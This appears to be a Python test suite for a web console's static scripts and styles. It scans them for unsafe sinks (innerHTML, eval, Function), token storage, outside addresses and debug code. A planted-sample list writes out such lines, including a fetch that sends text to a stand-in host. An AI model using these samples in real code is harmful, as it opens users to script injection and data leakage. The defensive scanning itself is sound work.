"""The shipped scripts and styles: they load, keep the house rules, and none is left over."""

import re
from collections.abc import Iterator
from pathlib import Path

from support.browser import Tab
from support.process import ServerProcess

from aviso_server.http.pages import PACKAGED_STATIC

SCRIPTS = sorted(PACKAGED_STATIC.rglob("*.js"))
STYLES = sorted(PACKAGED_STATIC.rglob("*.css"))
START = PACKAGED_STATIC / "console" / "main.js"
MAX_LINES = 400
MAX_COLUMNS = 100
FORBIDDEN = {
    "markup from text": (
        r"innerHTML|outerHTML|insertAdjacentHTML|setHTMLUnsafe|parseHTMLUnsafe|srcdoc"
        r"|DOMParser|createContextualFragment|document\.write"
    ),
    "text as script": (
        r"\beval\b|\bFunction\s*\(|\bset(?:Timeout|Interval)\s*\(\s*[\"'`]|javascript:"
        r"|[\"'`]on[a-z]+[\"'`]\s*,"
    ),
    "style or attribute by text": r"setAttribute\(\s*[\"'`]style|cssText",
    "something kept on the machine": r"(?:local|session)Storage|indexedDB|\bcaches\b|\.cookie\b",
    "an address of somebody else": r"https?://(?!www\.w3\.org/2000/svg\")[A-Za-z0-9]|wss?://",
    "something left from debugging": r"\bdebugger\b|console\.(?:log|debug|info|table|dir|trace)\(",
}
"""What no script may have outside of a comment, by why."""
_COMMENT = re.compile(r"\s*(?://|/\*|\*)")
_REFERENCE = re.compile(r"[\"'`]([\w./-]+\.(?:js|css|json|svg|png|html))[\"'`]")


def _name(path: Path) -> str:
    return path.relative_to(PACKAGED_STATIC).as_posix()


def faults(text: str) -> Iterator[str]:
    """What a script has that it must not have."""
    code = "\n".join(line for line in text.splitlines() if not _COMMENT.match(line))
    if 'const KEY = "aviso-theme";' in code:
        # The one thing that is kept: which of two colour schemes the reader prefers.
        code = re.sub(r"localStorage\.(?:get|set)Item\(KEY\b", "", code)
    for why, pattern in FORBIDDEN.items():
        for found in re.finditer(pattern, code):
            yield f"{why}: {found[0]}"


def untidy(text: str) -> Iterator[str]:
    """Lines that are too long or have tabs or spaces that nobody sees."""
    for number, line in enumerate(text.split("\n"), 1):
        if len(line) > MAX_COLUMNS or "\t" in line or line != line.rstrip():
            yield f"line {number}: {line!r}"
    if not text.endswith("\n") or text.endswith("\n\n"):
        yield "the end of the file is not one line break"


def references(file: Path) -> Iterator[Path]:
    """The files that a file names, relative to itself or to the page."""
    for name in _REFERENCE.findall(file.read_text(encoding="utf-8")):
        for place in (file.parent / name, PACKAGED_STATIC.parent / name):
            if place.is_file():
                yield place.resolve()


def test_there_is_something_to_check() -> None:
    """The scripts are where these tests look."""
    assert START in SCRIPTS
    assert STYLES


def test_every_script_parses_and_finds_what_it_imports(fresh: Tab, server: ServerProcess) -> None:
    """Each module can be loaded by itself, in a page that has nothing of the console."""
    # The start makes the page when it is loaded, which needs the page.
    names = [_name(path) for path in SCRIPTS if path != START]
    fresh.page.goto(f"{server.url}/static/icon.svg")
    failures = fresh.page.evaluate(
        """
        async (names) => {
          const failures = {};
          for (const name of names) {
            try {
              await import(`/static/${name}`);
            } catch (error) {
              failures[name] = String(error);
            }
          }
          return failures;
        }
        """,
        names,
    )
    assert failures == {}


def test_no_script_has_a_way_from_text_to_markup_or_to_elsewhere() -> None:
    """Whatever a producer sends stays text, and nobody else is asked or told anything."""
    found = {_name(path): list(faults(path.read_text(encoding="utf-8"))) for path in SCRIPTS}
    assert {name: wrong for name, wrong in found.items() if wrong} == {}


PLANTED = [
    "box.innerHTML = text;",
    'h("p", { innerHTML: text });',
    'box["outerHTML"] = text;',
    "box.insertAdjacentHTML('beforeend', text);",
    "document.write(text);",
    "new DOMParser().parseFromString(text, 'text/html');",
    "frame.srcdoc = text;",
    "eval(text);",
    "(0, eval)(text);",
    "new Function(text)();",
    "Function (text)();",
    'setTimeout("harm()", 10);',
    'link.href = "javascript:harm()";',
    'box.setAttribute("onclick", text);',
    'box.setAttribute("style", text);',
    "box.style.cssText = text;",
    'localStorage.setItem("token", token);',
    'const KEY = "token"; localStorage.setItem(KEY, token);',
    'const KEY = "aviso-theme"; localStorage.setItem(KEYS, token);',
    "sessionStorage.token = token;",
    "document.cookie = token;",
    'import "https://cdn.example/x.js";',
    "fetch(`http://elsewhere.example/?q=${text}`);",
    'const SVG = "http://www.w3.org/2000/svgx";',
    'new WebSocket("wss://elsewhere.example/");',
    "console.log(token);",
    "work(); // a comment does not hide it\n  box.innerHTML = text;",
]


def test_the_scan_finds_what_is_planted() -> None:
    """Each forbidden thing is found in every spelling that might be used."""
    assert [text for text in PLANTED if not list(faults(f"// A module.\n\n{text}\n"))] == []


def test_the_scan_leaves_the_rest_alone() -> None:
    """Comments may name what is forbidden; the theme may be kept; links may be made."""
    text = """\
// There is no innerHTML here.
/**
 * Nor eval(text).
 */
const SVG = "http://www.w3.org/2000/svg";
const KEY = "aviso-theme";
localStorage.setItem(KEY, localStorage.getItem(KEY));
const link = `http://${location.hostname}:9000/metrics`;
const retrieval = evaluate(medieval);
setTimeout(() => box.setAttribute("aria-label", text), 10);
"""
    assert list(faults(text)) == []


def test_no_style_loads_anything() -> None:
    """Everything a style needs is in it."""
    loading = re.compile(r"@import|url\(|image-set\(")
    assert [_name(path) for path in STYLES if loading.search(path.read_text("utf-8"))] == []


def test_files_are_tidy_and_say_what_they_are_for() -> None:
    """A comment first, lines of at most 100 columns without tabs; scripts have at most 400."""
    texts = {path: path.read_bytes().decode() for path in [*SCRIPTS, *STYLES]}
    assert [(_name(path), *untidy(text)) for path, text in texts.items() if [*untidy(text)]] == []
    assert [_name(path) for path, text in texts.items() if not _COMMENT.match(text)] == []
    assert [_name(path) for path in SCRIPTS if texts[path].count("\n") > MAX_LINES] == []


def test_untidy_lines_are_found() -> None:
    """The check for tidy files can fail."""
    wrong = ["\tindent;\n", "trailing; \n", "x" * 101 + "\n", "no end;", "two ends;\n\n", "cr;\r\n"]
    assert [text for text in wrong if not list(untidy(text))] == []


def test_no_file_is_left_over() -> None:
    """Every shipped file is reached from the page, through what it and its scripts name."""
    index = PACKAGED_STATIC / "index.html"
    reached: set[Path] = set()
    waiting = [index.resolve()]
    while waiting:
        file = waiting.pop()
        if file not in reached:
            reached.add(file)
            waiting += references(file)
    shipped = [path for path in PACKAGED_STATIC.rglob("*") if path.is_file()]
    assert [_name(path) for path in sorted(shipped) if path.resolve() not in reached] == []
